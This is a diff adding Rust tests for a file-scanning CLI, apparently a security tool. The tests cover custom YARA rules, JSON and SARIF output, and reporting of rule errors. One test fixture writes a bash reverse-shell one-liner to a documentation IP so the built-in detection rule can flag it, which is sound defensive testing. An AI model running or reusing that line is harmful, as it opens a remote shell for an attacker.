@@ -90,3 +90,49 @@ fn sarif_is_for_scans() {
     let ran = Command::new(env!("CARGO_BIN_EXE_picketctl")).args(["whoami", "--format", "sarif"]).output().unwrap();
     assert_eq!(ran.status.code(), Some(2));
 }
+
+#[test]
+fn yara_rules_are_applied_beside_the_built_in_ones() {
+    let folder = tempfile::tempdir().unwrap();
+    let (rules, files) = (folder.path().join("rules"), folder.path().join("files"));
+    fs::create_dir(&rules).unwrap();
+    fs::create_dir(&files).unwrap();
+    write(&rules, "mine.yar", b"rule mark { meta: severity = \"high\" strings: $a = \"the-mark\" condition: $a }");
+    let marked = write(&files, "notes.txt", b"words\nthe-mark\n");
+    let shell = write(&files, "run.sh", b"#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n");
+    let rules = rules.to_str().unwrap();
+    assert_eq!(scan(&[&marked], b"").0, 0);
+    let (code, text, _) = scan(&[&marked, "--yara", rules, "--format", "json"], b"");
+    let file: Value = serde_json::from_str(&text).unwrap();
+    let finding = &file["findings"][0];
+    assert_eq!(
+        (code, &finding["rule_id"], &finding["evidence"]["offset"], &finding["evidence"]["value"]),
+        (1, &"YARA:mine.mark".into(), &6.into(), &"the-mark".into())
+    );
+    assert_eq!((&file["rules_applied"]["regions"], file["rules_applied"]["identity"].as_str().unwrap().len()), (&1.into(), 64));
+    // The built-in pack is on, and can be turned off.
+    let (code, text, _) = scan(&[&shell, "--format", "json"], b"");
+    let file: Value = serde_json::from_str(&text).unwrap();
+    assert_eq!((code, &file["findings"][0]["rule_id"], &file["verdict"]), (1, &"PICKET-YAR-030".into(), &"malicious".into()));
+    assert_eq!(scan(&[&shell, "--no-yara"], b"").0, 0);
+    // A rule of a pack is in the list of the SARIF log that its result points into.
+    let (_, text, _) = scan(&[&marked, "--yara", rules, "--format", "sarif"], b"");
+    let log: Value = serde_json::from_str(&text).unwrap();
+    let run = &log["runs"][0];
+    let index = usize::try_from(run["results"][0]["ruleIndex"].as_u64().unwrap()).unwrap();
+    assert_eq!(run["tool"]["driver"]["rules"][index]["id"], "YARA:mine.mark");
+}
+
+#[test]
+fn errors_in_rules_are_told_with_their_places_and_nothing_is_scanned() {
+    let folder = tempfile::tempdir().unwrap();
+    let clean = write(folder.path(), "clean.pkl", b"\x80\x02N.");
+    write(folder.path(), "a.yar", b"rule one {\n condition: $missing\n}\n");
+    write(folder.path(), "b.yar", b"rule two {\n condition: nothing\n}\n");
+    let (code, out, told) = scan(&[&clean, "--yara", folder.path().to_str().unwrap()], b"");
+    assert_eq!((code, out.as_str()), (2, ""));
+    assert!(told.contains("a.yar:2:13: ") && told.contains("b.yar:2:13: "), "{told}");
+    let empty = tempfile::tempdir().unwrap();
+    let (code, _, told) = scan(&[&clean, "--yara", empty.path().to_str().unwrap()], b"");
+    assert!(code == 2 && told.contains("no .yar"), "{told}");
+}
